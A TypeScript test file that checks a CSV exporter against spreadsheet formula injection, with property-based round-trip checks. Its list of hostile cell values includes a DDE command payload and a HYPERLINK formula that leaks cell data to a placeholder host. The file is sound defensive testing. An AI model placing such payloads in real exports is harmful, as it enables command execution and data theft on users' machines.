import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fileSource } from '../../../src/core/data/file/byte-source.ts';
import { csvChunks } from '../../../src/core/data/file/csv-export.ts';
import { importFile } from '../../../src/core/data/file/import-file.ts';
import { csvBytes } from '../../../src/core/data/schema/dataset-csv.ts';
import { root } from '../../../src/launch/prepare.mjs';
import { cellsOf } from '../../support/table-cells.ts';

/** What a spreadsheet runs, also after blanks and with the full-width signs that it understands. */
const FORMULA = /^\s*[=+\-@\t\r\n\0＝＋－＠]/;
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+SUM(A1)',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\u3000＝1',
  '＋1',
  '－1',
  '＠x',
  '"=1',
  '=1","=2',
  'a\n=1',
  '=HYPERLINK("http://x/?"&A1)',
];

describe('every CSV that is handed out', () => {
  test('is written by the one place that neutralises formulas', () => {
    const sources = readdirSync(join(root, 'src'), { recursive: true, encoding: 'utf8' }).filter((path) =>
      /\.tsx?$/.test(path),
    );
    const makers = sources.filter(
      (path) => /csv/i.test(path) || /text\/csv/.test(readFileSync(join(root, 'src', path), 'utf8')),
    );
    const byHand = makers.filter((path) => {
      const code = readFileSync(join(root, 'src', path), 'utf8');
      return !path.endsWith('csv-export.ts') && /join\(['"`][,;\\t]/.test(code.replaceAll(/join\(', '\)/g, ''));
    });
    expect(makers.length).toBeGreaterThan(5);
    expect(byHand).toEqual([]);
  });

  test('has no cell, and no name of a column, that a spreadsheet would run', () => {
    const attributes = [
      { name: '=1+1', size: hostile.length, labels: hostile },
      { name: '@x', size: 2, labels: ['-1', '-1e-5'] },
    ];
    const columns = [Uint8Array.from(hostile, (_, i) => i), Uint8Array.from(hostile, (_, i) => i % 2)];
    const dataset = { domain: { attributes }, rows: hostile.length, columns, weights: null, records: hostile.length };
    const text = csvBytes(dataset)
      .map((piece) => new TextDecoder().decode(piece))
      .join('');
    const written = cellsWritten(text);
    expect(written).toHaveLength(2 * (hostile.length + 1));
    for (const cell of written) if (!/^-\d/.test(cell) || Number.isNaN(Number(cell))) expect(cell).not.toMatch(FORMULA);
    // Numbers stay numbers.
    expect(written).toEqual(expect.arrayContaining(['-1', '-1e-5']));
  });

  test('is read back by the page as it was, but for the apostrophes', async () => {
    const cell = fc.oneof(
      fc.constantFrom(...hostile),
      fc.string({ unit: 'grapheme', maxLength: 6 }).filter((text) => !text.includes('\0')),
    );
    const rows = fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 12 });
    await fc.assert(
      fc.asyncProperty(rows, async (given) => {
        const file = new File([...csvChunks(['first', 'second'], given)], 'out.csv');
        const { table } = await importFile(fileSource(file), { header: true, delimiter: ',', counts: false });
        const read = cellsOf(table).map((row) => row.map((text) => text.replace(/^'/, '')));
        expect(read).toEqual(given.map((row) => row.map((text) => text.replace(/^'/, ''))));
      }),
      { numRuns: 300 },
    );
  });
});

/** The cells of a CSV as a spreadsheet sees them. */
function cellsWritten(text: string): string[] {
  return [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n)/g)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  );
}
